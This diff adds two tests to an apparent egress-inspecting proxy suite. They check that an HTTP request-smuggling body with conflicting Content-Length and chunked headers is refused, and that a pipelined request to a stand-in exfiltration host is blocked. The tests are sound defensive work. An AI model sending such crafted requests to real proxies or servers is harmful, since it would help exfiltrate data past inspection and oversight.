@@ -477,6 +477,47 @@ def test_plain_http_is_inspected_too(intercepting: dict[str, Any]) -> None:
     connection.close()
 
 
+def test_a_body_whose_length_is_stated_two_ways_is_refused_not_inspected_one_way(
+    intercepting: dict[str, Any],
+) -> None:
+    _call(intercepting["tracker"], {"to": "alice@example.org"})
+    body = orjson.dumps({"To": "alice@example.org"})
+    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
+    with socket.create_connection(("127.0.0.1", intercepting["proxy"]), timeout=20) as raw:
+        raw.sendall(b"CONNECT api.mail.test:443 HTTP/1.1\r\nHost: api.mail.test:443\r\n\r\n")
+        assert raw.recv(100).startswith(b"HTTP/1.1 200")
+        with intercepting["client"].wrap_socket(raw, server_hostname="api.mail.test") as tls:
+            tls.sendall(b"POST /email HTTP/1.1\r\nHost: api.mail.test\r\nContent-Type: application/json\r\n"
+                        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked)  # fmt: skip
+            assert tls.recv(100).startswith(b"HTTP/1.1 400")
+    assert intercepting["received"] == []
+    _wait_for(intercepting["records"], lambda r: "smuggling" in str(r.get("reason")))
+
+
+def test_a_plain_http_request_pipelined_behind_an_inspected_one_is_checked_too(
+    intercepting: dict[str, Any],
+) -> None:
+    _call(intercepting["tracker"], {"to": "alice@example.org"})
+    body = orjson.dumps({"To": "alice@example.org"})
+    payload = (
+        b"POST http://plain.test/email HTTP/1.1\r\nHost: plain.test\r\nContent-Type: application/json\r\n"
+        + b"Content-Length: %d\r\n\r\n" % len(body)
+        + body
+        + b"POST http://exfil.example/email HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 2\r\n\r\n{}"
+    )
+    with socket.create_connection(("127.0.0.1", intercepting["proxy"]), timeout=20) as raw:
+        raw.sendall(payload)  # both requests in one packet
+        answers = b""
+        for _ in range(100):  # bounded
+            if answers.count(b"HTTP/1.1 ") >= 2 or not (chunk := raw.recv(4096)):
+                break
+            answers += chunk
+    assert answers.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in answers
+    assert [r["path"] for r in intercepting["plain"]] == ["/email"]
+    _wait_for(intercepting["records"], lambda r: r.get("host") == "exfil.example")
+    assert [r["decision"] for r in intercepting["records"] if r.get("host") == "exfil.example"] == ["block"]
+
+
 # -- end to end: the postmark-mcp shape, sandboxed, through the gateway -------------------------
 
 
